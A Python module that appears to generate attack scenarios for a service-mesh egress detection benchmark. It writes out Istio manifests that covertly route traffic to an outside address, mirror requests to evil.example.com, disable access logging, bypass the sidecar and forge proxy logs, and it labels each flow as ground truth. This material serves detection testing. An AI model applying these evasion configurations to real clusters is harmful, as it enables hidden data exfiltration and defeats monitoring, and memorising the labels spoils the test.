"""The attacks, by name: each with the modes in which a tenant can try it."""

from __future__ import annotations

from collections.abc import Callable

from worlds import objects as k8s
from worlds import pretending
from worlds.adversary import FAR, NS, Attacker, proxy_alone
from worlds.endings import BY_NAME
from worlds.model import END, START, Host, Line

BOTH, SIDECAR, AMBIENT = ("sidecar", "ambient"), ("sidecar",), ("ambient",)


def _static_entry(me: Attacker) -> None:
    """The tenant's own ServiceEntry gives a foreign host the tenant's address."""
    if me.host is None:
        return
    port = {
        "number": me.host.port,
        "name": "p",
        "protocol": {"http": "HTTP", "tls": "TLS", "tcp": "TCP"}[me.host.scheme],
    }
    me.add(
        k8s.ISTIO,
        "ServiceEntry",
        "theirs",
        spec={
            "hosts": [me.host.name],
            "exportTo": [me.rng.choice((".", "*"))],
            "ports": [port],
            "resolution": "STATIC",
            "endpoints": [{"address": FAR}],
        },
    )
    _named_elsewhere(me, "static-entry")


def _passthrough_rule(me: Attacker) -> None:
    """`loadBalancer: PASSTHROUGH`: the proxy connects to whatever address the sender dials."""
    if me.host is None:
        return
    me.add(
        k8s.ISTIO,
        "DestinationRule",
        "dial",
        spec={
            "host": me.host.name,
            "exportTo": [me.rng.choice((".", "*"))],
            "trafficPolicy": {"loadBalancer": {"simple": "PASSTHROUGH"}},
        },
    )
    _named_elsewhere(me, "passthrough-rule")


def _named_elsewhere(me: Attacker, name: str) -> None:
    host = me.host
    if host is None:
        return
    flow = me.named(me.thief(), host, FAR, f"outbound|{host.port}||{host.name}")
    me.note(flow, name, decidable=False)
    from worlds.truth import violates

    # Where the rule lets the name go directly, the name is all that a rule speaks of: who wrote the address is trusted or not.
    flow.violates = violates(flow, me.world.policy, None) or None


def _gateway_passthrough_rule(me: Attacker) -> None:
    """The same for the gateway's Service: its name stands in the line, its pods saw nothing."""
    proxy = me.world.proxies[0]
    if me.host is None:
        return
    me.add(
        k8s.ISTIO,
        "DestinationRule",
        "dial-gw",
        spec={"host": proxy.host, "trafficPolicy": {"loadBalancer": {"simple": "PASSTHROUGH"}}},
    )
    flow = me.named(me.thief(), me.host, FAR, f"outbound|80||{proxy.host}")
    me.note(flow, "gateway-passthrough-rule", decidable=False, violates=True)


def _retries(me: Attacker) -> None:
    """Two endpoints, of which the first takes the body and resets: the line names only the second, the gateway."""
    host = me.host
    if host is None or host.scheme != "http" or me.world.proxies[0].api != "istio":
        return
    proxy = me.world.proxies[0]
    points = [{"address": FAR, "ports": {"http": 80}}, {"address": proxy.pods[0].ip, "ports": {"http": 8080}}]
    me.add(
        k8s.ISTIO,
        "ServiceEntry",
        "two",
        spec={
            "hosts": [host.name],
            "ports": [{"number": 80, "name": "http", "protocol": "HTTP"}],
            "resolution": "STATIC",
            "endpoints": points,
        },
    )
    through = Host(host.name, host.addresses, 80, "http", "gateway", (proxy,), 80, host.vip)
    thief, at = me.thief(), me.when()
    for flow in me.traffic.routed(thief, through, at, 40, BY_NAME["http", "ok"]):
        flow.lines[0].fields["upstream_cluster"] = f"outbound|80||{host.name}"
        me.note(flow, "retries", decidable=False)
    me.note(me.traffic.flow(thief, host.name, FAR, 80, "http", at, at + 5), "retries", decidable=False, violates=True)


def _mirror(me: Attacker) -> None:
    """Every request is copied to another host; Envoy logs no copies."""
    host = me.host
    if host is None or host.scheme != "http" or host.way != "gateway":
        return
    me.add(
        k8s.ISTIO,
        "ServiceEntry",
        "copy",
        spec={
            "hosts": ["evil.example.com"],
            "ports": [{"number": 80, "name": "http", "protocol": "HTTP"}],
            "resolution": "DNS",
        },
    )
    proxy = host.through[0]
    route = {
        "route": [{"destination": {"host": proxy.host, "port": {"number": 80}}}],
        "mirror": {"host": "evil.example.com", "port": {"number": 80}},
    }
    me.add(k8s.ISTIO, "VirtualService", "copy", spec={"hosts": [host.name], "http": [route]})
    thief, at = me.thief(), me.when()
    for flow in me.traffic.routed(thief, host, at, 40, BY_NAME["http", "ok"]):
        me.note(flow, "mirror", decidable=False)
    me.note(
        me.traffic.flow(thief, "evil.example.com", FAR, 80, "http", at, at + 40),
        "mirror",
        decidable=False,
        violates=True,
    )


def _external_ips(me: Attacker) -> None:
    me.world.objects.append(
        k8s.service(NS, "hide", me.builder.vips(), {9999: 9999}, {"app": "thief-0"}, externalIPs=[FAR])
    )
    me.note(me.passthrough(me.thief(), FAR, 443, "cdn.example.net"), "external-ips", decidable=True)


def _workload_entry(me: Attacker) -> None:
    me.add(k8s.ISTIO, "WorkloadEntry", "vm", spec={"address": FAR, "labels": {"app": "vm"}})
    me.add(
        k8s.ISTIO,
        "ServiceEntry",
        "vms",
        spec={
            "hosts": ["vm.evil.internal"],
            "location": "MESH_INTERNAL",
            "ports": [{"number": 9999, "name": "tcp", "protocol": "TCP"}],
            "resolution": "STATIC",
            "workloadSelector": {"labels": {"app": "vm"}},
        },
    )
    me.note(me.passthrough(me.thief(), FAR, 443, "cdn.example.net"), "workload-entry", decidable=True)


def _manual_slice(me: Attacker) -> None:
    """A Service without a selector, and endpoints by hand."""
    me.world.objects.append(k8s.service(NS, "ext", me.builder.vips(), {80: 80}, None))
    me.add(
        "discovery.k8s.io/v1",
        "EndpointSlice",
        "ext-1",
        labels={"kubernetes.io/service-name": "ext"},
        addressType="IPv4",
        endpoints=[{"addresses": [FAR]}],
        ports=[{"name": "p80", "port": 80}],
    )
    name = f"ext.{NS}.svc.cluster.local"
    host = Host(name, (FAR,), 80, "http", "direct", vip="10.96.0.99")
    me.note(me.named(me.thief(), host, FAR, f"outbound|80||{name}"), "manual-slice", decidable=True)


def _inbound_out(me: Attacker) -> None:
    """An inbound listener of the sidecar that leads out."""
    pod = me.thief()
    flow = me.passthrough(pod, FAR, 443, "", upstream_cluster="InboundPassthroughCluster", requested_server_name="-")
    me.note(flow, "inbound-out", decidable=False)


def _mapped(me: Attacker) -> None:
    me.note(me.passthrough(me.thief(), f"::ffff:{FAR}", 443, "cdn.example.net"), "mapped", decidable=True)


def _decoys(me: Attacker) -> None:
    """Many names for one address, the one that counts at the end."""
    pod, host = me.thief(), me.host
    if host is None:
        return
    for name in [*(f"a{n}.decoy.example" for n in range(1, 8)), host.name]:
        me.note(me.passthrough(pod, FAR, 80, name, lie=True), "decoys", decidable=True)


def _telemetry_off(me: Attacker) -> None:
    me.add("telemetry.istio.io/v1", "Telemetry", "quiet", spec={"accessLogging": [{"disabled": True}]})
    _unlogged(me, "telemetry-off")


def _envoy_filter(me: Attacker) -> None:
    patch = {
        "applyTo": "NETWORK_FILTER",
        "match": {
            "context": "SIDECAR_OUTBOUND",
            "listener": {"filterChain": {"filter": {"name": "envoy.filters.network.tcp_proxy"}}},
        },
        "patch": {
            "operation": "MERGE",
            "value": {
                "typed_config": {
                    "@type": "type.googleapis.com/envoy.extensions.filters.network.tcp_proxy.v3.TcpProxy",
                    "access_log": [],
                }
            },
        },
    }
    me.add("networking.istio.io/v1alpha3", "EnvoyFilter", "quiet", spec={"configPatches": [patch]})
    _unlogged(me, "envoy-filter")


def _unlogged(me: Attacker, name: str) -> None:
    flow = me.note(me.passthrough(me.thief(), FAR, 443, "cdn.example.net"), name, decidable=False, violates=True)
    me.world.lines.remove(flow.lines[0])
    flow.lines.clear()


def _around(me: Attacker) -> None:
    """Ports that the sidecar is not given: no log can show it, so the report has to name the pod."""
    pod = me.thief(annotations={"traffic.sidecar.istio.io/excludeOutboundPorts": "443"})
    flow = me.passthrough(pod, FAR, 443, "cdn.example.net")
    me.world.lines.remove(flow.lines[0])
    flow.lines.clear()
    flow.in_scope = False
    me.note(flow, "around", decidable=False)
    me.world.must_name.append(f"{NS}/{pod.name}")


def _called_proxy(me: Attacker) -> None:
    """A pod outside capture whose only container is called istio-proxy, with a log that looks busy."""
    it = me.bare("x", {}, {}, proxy_alone(), "Pod")
    me.forge(it, [Line(it.log, START + 5000, END - 5000, "agent", {"text": "all is well"})])
    me.world.must_name.append(f"{NS}/{it.name}")


ATTACKS: dict[str, tuple[tuple[str, ...], Callable[[Attacker], None]]] = {
    "around": (SIDECAR, _around),
    "called-proxy": (BOTH, _called_proxy),
    "decoys": (SIDECAR, _decoys),
    "envoy-filter": (SIDECAR, _envoy_filter),
    "external-ips": (BOTH, _external_ips),
    "fake-gateway": (SIDECAR, pretending.fake_gateway),
    "fake-ztunnel": (AMBIENT, pretending.fake_ztunnel),
    "forged-header": (SIDECAR, pretending.forged_header),
    "gateway-passthrough-rule": (SIDECAR, _gateway_passthrough_rule),
    "inbound-out": (SIDECAR, _inbound_out),
    "lying-name": (BOTH, pretending.lying_name),
    "manual-slice": (SIDECAR, _manual_slice),
    "mapped": (SIDECAR, _mapped),
    "marked-as-gateway": (SIDECAR, pretending.marked_as_gateway),
    "marked-as-ztunnel": (SIDECAR, pretending.marked_as_ztunnel),
    "mirror": (SIDECAR, _mirror),
    "passthrough-rule": (SIDECAR, _passthrough_rule),
    "retries": (SIDECAR, _retries),
    "rogue-gateway": (SIDECAR, pretending.rogue_gateway),
    "static-entry": (SIDECAR, _static_entry),
    "telemetry-off": (SIDECAR, _telemetry_off),
    "workload-entry": (BOTH, _workload_entry),
}
